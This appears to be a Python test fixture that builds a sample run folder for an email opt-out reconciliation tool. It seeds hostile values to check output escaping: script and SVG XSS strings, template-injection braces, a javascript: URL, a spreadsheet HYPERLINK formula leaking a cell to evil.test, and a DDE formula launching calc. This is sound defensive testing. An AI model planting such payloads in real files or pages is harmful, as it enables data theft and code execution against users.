"""A run folder made by hand: every category, hostile values, and a manifest that is counted here in plain Python.

The run is judged at 2026-11-24. What each group of `ROWS` is there for stands beside it.
"""

from __future__ import annotations

import json
from collections import Counter
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from typing import TYPE_CHECKING, Any

import pyarrow as pa

from recon import disk, outputs
from recon.categories import BY_NAME, CATEGORIES
from recon.settings import Settings
from recon.tables import ACTIONS, MERGED

if TYPE_CHECKING:
    from collections.abc import Iterable
    from pathlib import Path

CREATED = datetime(2026, 11, 24, 18, 0, tzinfo=UTC)
TODAY = CREATED.date()
OLD = datetime(2026, 11, 5, 9, tzinfo=UTC)
NEW = datetime(2026, 11, 23, 9, tzinfo=UTC)
LATE, SOON = date(2026, 11, 19), date(2026, 11, 30)

P, S = "sales_connect", "salesforce"

SCRIPT = "<script>alert('x')</script>"
BRACES = "{{ 7 * 191 }}{% raw %}${1}"
FORMULA = '=HYPERLINK("http://evil.test/?q="&A1,"click")'
QUOTES = '"\' onmouseover="alert(1)" x=\''
URL = "javascript:alert(document.domain)"
MARKS = "abc\u202egpj.exe\u200b\u2066\tend\nline"
LONG = "Wolfeschlegelsteinhausenbergerdorff" * 40
ID_IS_ADDRESS = "mallory@person-id.example"
HOSTILE = (SCRIPT, BRACES, FORMULA, QUOTES, URL, MARKS, LONG, ID_IS_ADDRESS)


@dataclass(frozen=True)
class Row:
    """A record of merged, and its action if `categories` says something."""

    system: str
    id: str
    object: str
    email: str | None
    opted_out: bool
    cluster: str
    component: str
    merged: bool
    predicted: bool
    caused_by: str | None = None
    at: datetime | None = None
    categories: str = ""
    fix: str | None = None
    due: date | None = None
    path: str | None = None
    says: str = ""
    tie: str = "linked"

    @property
    def uid(self) -> str:
        return f"{self.system}:{self.id}"


def _pair(number: str, email: str, categories: str, *, at: datetime | None = NEW, **extra: Any) -> list[Row]:
    """An opted-out person and a Contact that isn't; the Contact has the categories."""
    person, contact = f"9{number}", f"003A{number}"
    tonight = extra.pop("tonight", False)
    own = f"{S}:{contact}"
    cluster = f"{P}:{person}"
    component = cluster if tonight else own
    name = categories.split(";")[0]
    due = None if at is None or name in {"bounce", "user_level_only"} else LATE if at == OLD else SOON
    return [
        Row(P, person, "Person", email, True, cluster, cluster, True, True, cluster, at, tie="linked" if tonight else "address_only"),
        Row(
            S, contact, "Contact", email.upper(), False, cluster, component, True, tonight, cluster, at, categories,
            extra.pop("fix", BY_NAME[name].fix), due, f"{cluster} -[{'id' if tonight else 'address'}]-> {own}",
            f"The person {person} is opted out and this record isn't: {name}.", "linked" if tonight else "address_only",
        ),
    ]  # fmt: skip


def _alone(system: str, id_: str, email: str | None, categories: str = "", **extra: Any) -> Row:
    """A record of its own that isn't opted out."""
    uid = f"{system}:{id_}"
    kind = "Person" if system == P else "Lead"
    fix = extra.pop("fix", BY_NAME[categories.split(";")[0]].fix if categories else None)
    says = f"This record needs attention: {categories}." if categories else ""
    tie = extra.pop("tie", "unmatched")
    return Row(
        system, id_, kind, email, False, uid, uid, False, False, categories=categories, fix=fix, says=says, tie=tie
    )


def every_case() -> list[Row]:
    """Every category at least once, and every hostile value as an id, an address or a sentence."""
    rows: list[Row] = []
    # The sync sets two tonight; one of them was resubscribed.
    rows += _pair("01", "ann@mail-com.example", "awaiting_sync", tonight=True)
    rows += _pair("02", "bob@mail-org.example", "will_revert", tonight=True)
    # What the sync never sets: one overdue, one with two categories, one without a known date.
    rows += _pair("03", "cy@mail-net.example", "unlinked_match", at=OLD)
    rows += _pair("04", "di@mail-com.example", "lost_on_conversion;unlinked_match", at=OLD)
    rows += _pair("05", "ed@mail-com.example", "duplicate_disagrees", at=None)
    rows += _pair("06", "flo@mail-com.example", "sync_off")
    rows += _pair("07", "gus@mail-com.example", "user_level_only")
    rows += _pair("08", "hal@mail-com.example", "bounce")
    # Wrong although nobody could be mailed against an opt-out.
    rows += [
        _alone(S, "00QA09", "ida@mail-com.example", "field_disagrees"),
        _alone(P, "910", "jo@mail-com.example", "broken_link", tie="broken_link"),
        _alone(P, "911", "kim@mail-com.example", "stale_link", fix="admin", tie="stale_link"),
    ]
    # Both opted out, linked; and one with nothing wrong.
    uid = f"{P}:912"
    rows += [
        Row(P, "912", "Person", "lea@mail-com.example", True, uid, uid, True, True, uid, OLD),
        Row(S, "003A12", "Contact", "lea@mail-com.example", True, uid, uid, True, True, uid, OLD),
        _alone(P, "913", "mo@mail-com.example"),
        _alone(P, "914", None),
        _alone(P, "915", "o'neil at mail.example"),
    ]
    # Everything hostile is an id, stands in the sentence and in the path, and some of it is an address, too.
    for number, text in enumerate(HOSTILE):
        row = _alone(P, text, f"nora{number}@hostile.example", "broken_link", tie="broken_link")
        said = f"Look at {text} of peter{number}@sentence.example."
        rows.append(Row(**{**row.__dict__, "says": said, "path": f"{P}:{text} -[address]-> {S}:x{number}"}))
    rows += [
        _alone(P, "930", "=cmd|' /C calc'!A0@formula.example", "broken_link", tie="broken_link"),
        _alone(P, "931", '"><svg onload=alert(1)>@markup.example', "broken_link", tie="broken_link"),
        _alone(P, "932", "ünï\u200bcode@bücher.example", "broken_link", tie="broken_link"),
    ]
    return sorted(rows, key=lambda row: (row.system, row.id))


def addresses(rows: Iterable[Row]) -> list[str]:
    """Every address that must not stand in a masked report, as its system has it and as it is compared."""
    found = {ID_IS_ADDRESS}
    for number, _ in enumerate(HOSTILE):
        found.add(f"peter{number}@sentence.example")
    for row in rows:
        if row.email and "@" in row.email:
            found |= {row.email, row.email.casefold()}
    return sorted(found)


def _merged(row: Row) -> dict[str, Any]:
    address = row.email.casefold() if row.email and "@" in row.email and " " not in row.email else None
    values = (
        row.system, row.id, row.object, row.email, address, row.opted_out, row.cluster, row.merged,
        row.component, row.predicted, row.caused_by, row.at,
    )  # fmt: skip
    return dict(zip(MERGED.names, values, strict=True))


@dataclass
class RunFolder:
    """A run folder: what goes in, and the manifest that was written."""

    folder: Path
    rows: list[Row]
    settings: Settings = field(default_factory=Settings)
    manifest: dict[str, Any] = field(default_factory=dict)

    def write(self, **replaced: Any) -> RunFolder:
        """Write merged.parquet, actions.csv, unusable.csv and manifest.json, with single keys of the manifest replaced."""
        merged = [_merged(row) for row in self.rows]
        actions = [
            _merged(row)
            | {
                "category": row.categories.split(";")[0],
                "categories": row.categories,
                "fix": row.fix,
                "due_by": row.due,
                "path": row.path,
                "explanation": row.says,
            }
            for row in self.rows
            if row.categories
        ]
        self.folder.mkdir(parents=True, exist_ok=True)
        outputs.write_parquet(
            pa.Table.from_pylist(merged, MERGED.schema).to_batches(), MERGED, self.folder / "merged.parquet"
        )
        outputs.write_csv(
            pa.Table.from_pylist(actions, ACTIONS.schema).to_batches(), ACTIONS, self.folder / "actions.csv"
        )
        (self.folder / "unusable.csv").write_text(
            "system,id,column,problem\nsales_connect,915,email,this is no e-mail address\n", encoding="utf-8"
        )
        self.manifest = self._counted(len(merged), len(actions)) | replaced
        self.save()
        return self

    def save(self) -> None:
        """Write the manifest as it stands, with the files' hashes."""
        rows = {"merged.parquet": len(self.rows), "actions.csv": self.manifest["rows"]["actions"], "unusable.csv": 1}
        self.manifest["outputs"] = {
            name: {"rows": count, "sha256": disk.sha256(self.folder / name)} for name, count in rows.items()
        }
        text = json.dumps(self.manifest, ensure_ascii=False, indent=2, sort_keys=True)
        (self.folder / "manifest.json").write_text(text + "\n", encoding="utf-8")

    def _counted(self, merged: int, actions: int) -> dict[str, Any]:
        rows = self.rows
        acting = [row for row in rows if row.categories]
        mailable = [row for row in acting if row.merged and not row.opted_out]
        later = Counter(row.fix for row in mailable if not row.predicted)
        sides: dict[str, set[tuple[str, bool]]] = {}
        for row in rows:
            sides.setdefault(row.cluster, set()).add((row.system, row.opted_out))
        both = [found for found in sides.values() if {system for system, _ in found} == {P, S}]
        said = Counter(((P, True) in found, (S, True) in found) for found in both)
        ties = Counter((row.system, row.tie) for row in rows)
        changed = Counter(row.system for row in rows if row.predicted and not row.opted_out)
        out = Counter(row.system for row in rows if row.opted_out)
        fixes = Counter(row.fix for row in acting)
        records = [row for row in rows if row.system == S]
        return {
            "schema": 1,
            "run_id": "20261124T180000Z",
            "created_at": "2026-11-24T18:00:00Z",
            "clock": "system",
            "tool": {"recon": "0.1.0", "python": "3.11.7", "duckdb": "1.4.1"},
            "engine": "duckdb",
            # Some sections, so that the kept page doesn't change with every new setting.
            "settings": self.settings.model_dump(mode="json", include={"sync", "actions", "clusters", "report"})
            | {"salesforce": {"opt_out_field": "standard", "username": self.settings.salesforce.username}},
            "settings_sha256": "ab" * 32,
            "snapshot": None,
            "inputs": _INPUTS,
            "straddles": None,
            "rows": {
                "people": len(rows) - len(records),
                "leads": sum(row.object == "Lead" for row in rows),
                "contacts": sum(row.object == "Contact" for row in rows) + 1,
                "deleted": 1,
                "merged": merged,
                "clusters": len(sides),
                "actions": actions,
            },
            "coverage": {
                "people": {
                    tie: ties[P, tie] for tie in ("linked", "stale_link", "broken_link", "address_only", "unmatched")
                },
                "records": {tie: ties[S, tie] for tie in ("linked", "address_only", "unmatched")},
            },
            "opted_out": {
                P: out[P],
                S: out[S],
                "clusters": sum(any(flag for _, flag in found) for found in sides.values()),
                "both_sides": said[True, True],
                "sales_connect_only": said[True, False],
                "salesforce_only": said[False, True],
            },
            "categories": {
                category.name: {
                    "primary": sum(row.categories.split(";")[0] == category.name for row in acting),
                    "all": sum(category.name in row.categories.split(";") for row in acting),
                }
                for category in CATEGORIES
            },
            "fix": {fix: fixes[fix] for fix in ("toolkit", "admin", "nobody")},
            "could_be_mailed": {
                "total": len(mailable),
                "tonight": sum(row.predicted for row in mailable),
                **{fix: later[fix] for fix in ("toolkit", "admin", "nobody")},
            },
            "overdue": sum(row.due is not None and row.due < TODAY for row in acting),
            "tonight": {
                "enabled": True,
                "run_at": "2026-11-25T04:00:00Z",
                "people_set": changed[P],
                "records_set": changed[S],
            },
            "unusable": {"addresses": 1, "ids": 0},
            "large_clusters": [
                {
                    "cluster": f"{P}:{SCRIPT}",
                    "size": 61,
                    "members": 60,
                    "joined_by": "address",
                    "value_masked": "i***@e***.com",
                    "uid": f"{P}:950",
                },
                {
                    "cluster": f"{P}:{ID_IS_ADDRESS}",
                    "size": 70,
                    "members": 71,
                    "joined_by": "link",
                    "value_masked": None,
                    "uid": f"{S}:003A99",
                },
            ],
            "outputs": {},
            "ledger": None,
        }


_INPUTS: list[dict[str, Any]] = [
    {
        "name": "people",
        "origin": f"{SCRIPT} of quentin@origin.example.csv",
        "kind": "csv",
        "rows": 26,
        "sha256": "0f" * 32,
        "bytes": 1834,
        "started_at": None,
        "finished_at": None,
        "details": {"encoding": "utf-8-sig", "columns": [BRACES, "email"], "by": "rita@details.example", "ok": True},
    },
    {
        "name": "contacts",
        "origin": "acme.my.salesforce.com, Bulk API 2.0 query",
        "kind": "salesforce-bulk",
        "rows": 11,
        "sha256": None,
        "bytes": 1234567,
        "started_at": "2026-11-24T17:20:00Z",
        "finished_at": "2026-11-24T17:21:10Z",
        "details": {},
    },
]
